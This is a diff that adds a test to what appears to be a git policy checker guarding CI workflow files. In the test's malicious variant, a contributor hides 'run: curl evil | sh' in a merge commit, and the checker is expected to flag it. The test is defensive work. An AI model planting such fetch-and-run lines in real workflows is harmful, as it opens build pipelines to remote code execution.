@@ -126,3 +126,32 @@ test('the policy folder too: a maintainer moves a note into .gitguard, a contrib
   );
   expect(resultOf(parseJson(res), 'policy-changes-authorized').outcome).toBe('fail');
 });
+
+test('a criss-cross history (two merge bases that differ at .github/workflows) merged by a contributor: pass; twin with an edit in the merge fails', async () => {
+  const build = (evil: boolean): TestRepo => {
+    const r = setUp('ci/build.yml');
+    commit(r, alice, 'alice@example.com', { '.github/workflows/a.yml': 'a0\n', '.github/workflows/b.yml': 'b0\n' });
+    r.run(['checkout', '-q', '-b', 'y']);
+    commit(r, alice, 'alice@example.com', { '.github/workflows/b.yml': 'b1\n' }, 'y1');
+    r.run(['checkout', '-q', 'main']);
+    commit(r, alice, 'alice@example.com', { '.github/workflows/a.yml': 'a1\n' }, 'x1');
+    const x1 = r.head();
+    as(r, alice, 'alice@example.com', ['merge', '-q', '--no-ff', '-S', '-m', 'x2', 'y']);
+    r.run(['checkout', '-q', 'y']);
+    as(r, alice, 'alice@example.com', ['merge', '-q', '--no-ff', '-S', '-m', 'y2', x1]);
+    commit(r, alice, 'alice@example.com', { '.github/workflows/d.yml': 'd\n' }, 'y3');
+    r.run(['checkout', '-q', 'main']);
+    commit(r, alice, 'alice@example.com', { '.github/workflows/c.yml': 'c\n' }, 'x3');
+    if (!evil) as(r, bob, 'bob@example.com', ['merge', '-q', '--no-ff', '-S', '-m', 'merge y', 'y']);
+    else {
+      r.run(['merge', '-q', '--no-ff', '--no-commit', 'y']);
+      r.write({ '.github/workflows/c.yml': 'c\nrun: curl evil | sh\n' });
+      r.run(['add', '-A']);
+      as(r, bob, 'bob@example.com', ['commit', '-q', '-S', '-m', 'merge y']);
+    }
+    expect(r.run(['merge-base', '--all', 'HEAD^1', 'HEAD^2']).split('\n')).toHaveLength(2);
+    return r;
+  };
+  expect(await outcome(build(false))).toBe('pass');
+  expect(await outcome(build(true))).toBe('fail');
+});
